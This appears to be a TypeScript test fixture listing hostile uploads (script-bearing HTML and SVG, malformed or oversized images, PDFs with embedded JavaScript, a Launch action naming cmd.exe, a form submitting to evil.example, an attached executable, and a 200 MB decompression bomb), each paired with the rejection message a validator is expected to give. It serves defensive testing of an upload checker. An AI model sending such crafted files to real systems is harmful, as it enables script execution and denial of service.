import { deflateSync } from 'node:zlib';
import { jpeg, pdf, png, withAction } from './sample-files';

/** A PDF of one page, written by hand. */
export const page = (rest: string) =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n${rest}\ntrailer\n<</Root 1 0 R>>\n%%EOF`,
    'latin1',
  );

/** A stream that says it is 200 MB when it is unpacked. */
function bomb(dictionary: string): Buffer {
  const packed = deflateSync(Buffer.alloc(200 * 1024 * 1024));
  const head = page('').subarray(0, -30);
  const start = Buffer.from(`\n4 0 obj\n<<${dictionary}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`);
  return Buffer.concat([head, start, packed, Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF')]);
}

const ACTIVE = /scripts, actions or attached files/;
const DAMAGED = /damaged or not complete/;

/** What each is, the words in which it is refused, and how it is made. */
export const hostileFiles: [string, RegExp, () => Buffer | Promise<Buffer>][] = [
  ['nothing', /empty/, () => Buffer.alloc(0)],
  ['a page of HTML', /Only a PDF/, () => Buffer.from('<html><script>alert(1)</script>')],
  ['an SVG with a script', /Only a PDF/, () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>')],
  ['a GIF', /Only a PDF/, () => Buffer.from('GIF89a\u0001\u0000')],
  ['a program', /Only a PDF/, () => Buffer.from('MZ\u0090\u0000')],
  ['a PNG that ends early', DAMAGED, () => png().subarray(0, 40)],
  [
    'a PNG with a wrong sum',
    DAMAGED,
    () => Buffer.concat([png().subarray(0, 20), Buffer.from([9]), png().subarray(21)]),
  ],
  ['a PNG with a page of HTML behind it', DAMAGED, () => png({ tail: Buffer.from('<script>alert(1)</script>') })],
  ['a PNG without pixels', DAMAGED, () => png({ width: 0 })],
  ['a PNG that is too large', /4096/, () => png({ width: 4097 })],
  ['a PNG of two thousand million pixels', /4096/, () => png({ width: 2 ** 31, height: 1 })],
  ['a JPEG that ends early', DAMAGED, () => jpeg().subarray(0, -2)],
  ['a JPEG that is too large', /4096/, () => jpeg({ height: 5_000 })],
  ['a JPEG without a picture', DAMAGED, () => Buffer.from([0xff, 0xd8, 0xff, 0xd9])],
  ['a JPEG whose segment is longer than the file', DAMAGED, () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xff, 0])],
  ['a PDF by its name only', /can’t be read/, () => Buffer.from('%PDF-1.7 and nothing else')],
  ['a PDF of two pages', /exactly one page/, () => pdf({ pages: 2 })],
  [
    'a PDF without a page',
    /exactly one page|can’t be read/,
    () => Buffer.from(page('').toString().replace('[3 0 R]', '[]').replace('Count 1', 'Count 0')),
  ],
  [
    'a PDF that runs a script when it opens',
    ACTIVE,
    () => pdf({ change: (document) => document.addJavaScript('a', 'app.alert(1)') }),
  ],
  [
    'a PDF whose script is hidden by an escape',
    ACTIVE,
    () => page('4 0 obj\n<</S/J#61vaScript/J#53(app.alert(1))>>\nendobj'),
  ],
  ['a PDF that starts a program', ACTIVE, () => pdf({ change: withAction({ S: '/Launch', F: 'cmd.exe' }) })],
  [
    'a PDF with a link that is a script',
    ACTIVE,
    () => pdf({ change: withAction({ S: '/URI', URI: 'javascript:alert(1)' }) }),
  ],
  [
    'a PDF that sends a form',
    ACTIVE,
    () => pdf({ change: withAction({ S: '/SubmitForm', F: 'https://evil.example' }) }),
  ],
  ['a PDF with a file in it', ACTIVE, () => pdf({ change: (document) => document.attach(Buffer.from('MZ'), 'a.exe') })],
  [
    'a PDF behind a password',
    /password/,
    () => page('4 0 obj\n<</Filter/Standard/V 1/R 2/O(a)/U(b)/P -4>>\nendobj\ntrailer\n<</Root 1 0 R/Encrypt 4 0 R>>'),
  ],
  ['a PDF whose objects unpack to 200 MB', /packed/, () => bomb('/Type/ObjStm/N 1/First 4')],
  [
    'a PDF packed twice',
    /packed/,
    () => page('4 0 obj\n<</Filter[/FlateDecode/FlateDecode]/Length 0>>\nstream\n\nendstream\nendobj'),
  ],
  ['a PDF made to take for ever', /can’t be read/, () => Buffer.from(`%PDF-1.7\n${'['.repeat(3_000_000)}`)],
];
